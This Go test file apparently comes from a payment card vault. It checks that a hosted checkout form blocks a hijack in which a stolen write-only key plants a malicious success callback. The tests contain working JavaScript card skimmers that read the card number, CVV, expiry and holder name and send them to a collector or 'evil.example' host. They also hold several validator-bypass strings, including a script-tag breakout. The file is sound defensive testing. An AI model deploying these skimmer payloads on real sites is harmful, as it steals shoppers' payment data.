package hostedform_test

import (
	"context"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cardvault/cardvault/internal/browsertest"
	"github.com/cardvault/cardvault/internal/vaulttest"

	"github.com/chromedp/chromedp"

	"github.com/cardvault/cardvault/internal/vault"
	"github.com/cardvault/cardvault/internal/vault/forms"
)

// collector is an attacker's server: it records every query it is sent.
type collector struct {
	URL  string
	mu   sync.Mutex
	hits []url.Values
}

func newCollector(t *testing.T) *collector {
	t.Helper()
	c := &collector{}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.mu.Lock()
		c.hits = append(c.hits, r.URL.Query())
		c.mu.Unlock()
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
	}))
	t.Cleanup(srv.Close)
	c.URL = srv.URL
	return c
}

// received returns what the collector was sent so far.
func (c *collector) received() []url.Values {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]url.Values(nil), c.hits...)
}

// exploitCallback is the review's callback: it runs at page load (a comma
// expression whose last member is a function), listens for the submission
// and ships the typed card to the collector by navigating the frame.
func exploitCallback(to string) string {
	return `(document.addEventListener("submit", function () {
  location.href = "` + to + `/c?pan=" + document.getElementById("cv-card_number").value.replace(/\D/g, "") +
    "&cvv=" + document.getElementById("cv-cvv").value;
}, true), function () {})`
}

// readingCallback is a plain function, the strongest callback an admin can
// still set: when called it reads the card inputs and ships them away.
func readingCallback(to string) string {
	return `function (responseData) {
  const v = (n) => encodeURIComponent(document.getElementById("cv-" + n).value);
  location.href = "` + to + `/c?pan=" + v("card_number") + "&cvv=" + v("cvv") + "&expiry=" + v("expiry") +
    "&holder=" + v("card_holder") + "&token=" + encodeURIComponent(responseData.token);
}`
}

// TestWriteOnlyKeyCannotHijackHostedForm is the review's proof
// (TestWriteOnlyKeyHijacksHostedFormAndStealsPAN) turned around: a key with
// only cards:write can neither delete a merchant's form nor recreate it
// under the same id with a callback that runs at page load; an admin
// cannot reuse the id or set such a callback either; the shopper's card
// reaches the vault and nothing else. A callback an admin does set finds
// the card inputs empty when it is called.
func TestWriteOnlyKeyCannotHijackHostedForm(t *testing.T) {
	browser := browsertest.Start(t)
	e := newEnv(t)
	e.setup(t)
	evil := newCollector(t)
	ep := e.createEndpoint(t, "ttl", "PT10M")
	m := newMerchant(t, func(origin string) string {
		resp, body := e.call(t, "POST", "/v1/capture/iframe?form_type=pcd&form_id=checkout", `{"allowed_origins":["`+origin+`"]}`)
		vaulttest.WantStatus(t, resp, body, http.StatusOK)
		return e.URL + formPath("checkout", ep)
	})

	// The attacker holds cards:write only.
	w := vaulttest.BasicAuth(e.Key(t, vault.ScopeCardsWrite))
	attack := `{"allowed_origins":["` + m.URL + `"],"success_callback":"` + b64(exploitCallback(evil.URL)) + `"}`
	resp, body := e.Do(t, "DELETE", "/v1/capture/iframe/checkout", "", "Authorization", w)
	vaulttest.WantStatus(t, resp, body, http.StatusForbidden)
	resp, body = e.Do(t, "POST", "/v1/capture/iframe?form_type=pcd&form_id=checkout", attack, "Authorization", w)
	vaulttest.WantStatus(t, resp, body, http.StatusForbidden)
	resp, body = e.Do(t, "POST", "/v1/capture/iframe?form_type=pcd&form_id=checkout-2", attack, "Authorization", w)
	vaulttest.WantStatus(t, resp, body, http.StatusForbidden)

	// Even an admin cannot set a callback that runs at load, nor give a
	// deleted form's id to another configuration.
	resp, body = e.call(t, "POST", "/v1/capture/iframe?form_type=pcd&form_id=checkout-2", attack)
	vaulttest.WantStatus(t, resp, body, http.StatusBadRequest)
	resp, body = e.call(t, "POST", "/v1/capture/iframe?form_type=pcd&form_id=old-checkout", `{}`)
	vaulttest.WantStatus(t, resp, body, http.StatusOK)
	resp, body = e.call(t, "DELETE", "/v1/capture/iframe/old-checkout", "")
	vaulttest.WantStatus(t, resp, body, http.StatusOK)
	resp, body = e.call(t, "POST", "/v1/capture/iframe?form_type=pcd&form_id=old-checkout",
		`{"success_callback":"`+b64(readingCallback(evil.URL))+`"}`)
	vaulttest.WantStatus(t, resp, body, http.StatusConflict)

	// The shopper uses the merchant's form: the card goes to the vault only.
	page := browsertest.Tab(t, browser)
	browsertest.Do(t, page, chromedp.Navigate(m.URL))
	fr := browsertest.Frame(t, page, e.URL+"/v1/capture/iframe/checkout")
	if got := browsertest.FormState(t, fr); got != "form" {
		t.Fatalf("the framed form is %s", got)
	}
	typed, _ := expiryIn(3)
	browsertest.TypeCard(t, fr, map[string]string{"card_number": pan, "expiry": typed, "cvv": "123", "card_holder": "Ada Lovelace"})
	browsertest.Do(t, fr, chromedp.Click(chromedp.ID("cv-submit")))
	msgs := browsertest.Poll[[]message](t, page, `window.received.length >= 1 ? window.received : null`)
	if msgs[0].Data["type"] != "cardvault:captured" {
		t.Fatalf("the merchant received %v", msgs)
	}
	if got := evil.received(); len(got) != 0 {
		t.Fatalf("the collector received %v", got)
	}
	e.AssertLogClean(t, ep.Secret, pan)

	// A plain callback set by an admin runs only once the card inputs are
	// empty: it ships nothing of the card.
	ep2 := e.createEndpoint(t, "ttl", "PT10M")
	m2 := newMerchant(t, func(origin string) string {
		resp, body := e.call(t, "POST", "/v1/capture/iframe?form_type=pcd&form_id=reader",
			`{"allowed_origins":["`+origin+`"],"success_callback":"`+b64(readingCallback(evil.URL))+`"}`)
		vaulttest.WantStatus(t, resp, body, http.StatusOK)
		return e.URL + formPath("reader", ep2)
	})
	page2 := browsertest.Tab(t, browser)
	browsertest.Do(t, page2, chromedp.Navigate(m2.URL))
	fr2 := browsertest.Frame(t, page2, e.URL+"/v1/capture/iframe/reader")
	if got := browsertest.FormState(t, fr2); got != "form" {
		t.Fatalf("the framed form is %s", got)
	}
	browsertest.TypeCard(t, fr2, map[string]string{"card_number": pan, "expiry": typed, "cvv": "123", "card_holder": "Ada Lovelace"})
	browsertest.Do(t, fr2, chromedp.Click(chromedp.ID("cv-submit")))
	got := waitFor(t, page2, evil)
	if len(got) != 1 || got[0].Get("token") == "" {
		t.Fatalf("the collector received %v", got)
	}
	for _, name := range []string{"pan", "cvv", "expiry", "holder"} {
		if v := got[0].Get(name); v != "" {
			t.Errorf("the callback read %s = %q from the form", name, v)
		}
	}
}

// waitFor waits, as long as the tab lives, until the collector is sent
// something.
func waitFor(t *testing.T, tabCtx context.Context, c *collector) []url.Values {
	t.Helper()
	for {
		if got := c.received(); len(got) > 0 {
			return got
		}
		select {
		case <-tabCtx.Done():
			t.Fatalf("the collector was sent nothing: %v", tabCtx.Err())
		case <-time.After(50 * time.Millisecond):
		}
	}
}

// TestBrowserCallbacksOnlyDefine loads forms whose callbacks
// web.CheckCallback accepts but that a careless reading could take for
// code running at load; each would set window.ranAtLoad if any of it ran
// before being called. Chromium must define the callback and run nothing.
func TestBrowserCallbacksOnlyDefine(t *testing.T) {
	browser := browsertest.Start(t)
	e := newEnv(t)
	e.setup(t)
	for i, cb := range []string{
		`function(){ a = b / 2 /* } ); window.ranAtLoad = 1; ( function(){ */ }`,
		"function(){ x = `${ '}' }` + \"`); window.ranAtLoad = 1; (`\" }",
		`function(){ return /\}\); window.ranAtLoad = 1; \(function\(\)\{/ }`,
		`function(){ x = [/[/]\); window.ranAtLoad = 1; \(function\(\)\{]/] }`,
		`function named(r){ if (r) { y = 1 } else { y = /\}\); window.ranAtLoad = 1; \(function\(\)\{/.test(r) } }`,
		`(a = window.ranAtLoad = 1) => { window.ranAtLoad = 1 }`,
		"function(){ // }); window.ranAtLoad = 1; (function(){\n}",
		`function(){ s = '</script><img src=x onerror="window.ranAtLoad = 1">' }`,
	} {
		ep := e.createEndpoint(t, "ttl", "PT10M")
		f := e.createForm(t, `{"success_callback":"`+b64(cb)+`"}`)
		page := browsertest.Tab(t, browser)
		browsertest.Do(t, page, chromedp.Navigate(e.URL+formPath(f.ID, ep)))
		if got := browsertest.FormState(t, page); got != "form" {
			t.Fatalf("callback %d: the form is %s", i, got)
		}
		if got := browsertest.Eval[string](t, page, `typeof cardvaultOnSuccess + ":" + typeof window.ranAtLoad`); got != "function:undefined" {
			t.Errorf("callback %d: after load %s (callback type:ranAtLoad type)", i, got)
		}
	}
}

// TestCallbackWithLoadTimeCodeIsNotServed: a form stored with such a
// callback before the check existed shows the error page, not the form.
func TestCallbackWithLoadTimeCodeIsNotServed(t *testing.T) {
	e := newEnv(t)
	e.setup(t)
	ep := e.createEndpoint(t, "ttl", "PT10M")
	f, err := e.Forms.CreateForm(context.Background(), vault.DefaultTenant,
		forms.FormInput{SuccessCallback: exploitCallback("https://evil.example")})
	if err != nil {
		t.Fatal(err)
	}
	resp, body := e.Do(t, "GET", formPath(f.ID, ep), "", "Accept", "text/html")
	if resp.StatusCode != http.StatusInternalServerError || strings.Contains(string(body), "addEventListener") {
		t.Errorf("served %d:\n%s", resp.StatusCode, body)
	}
}
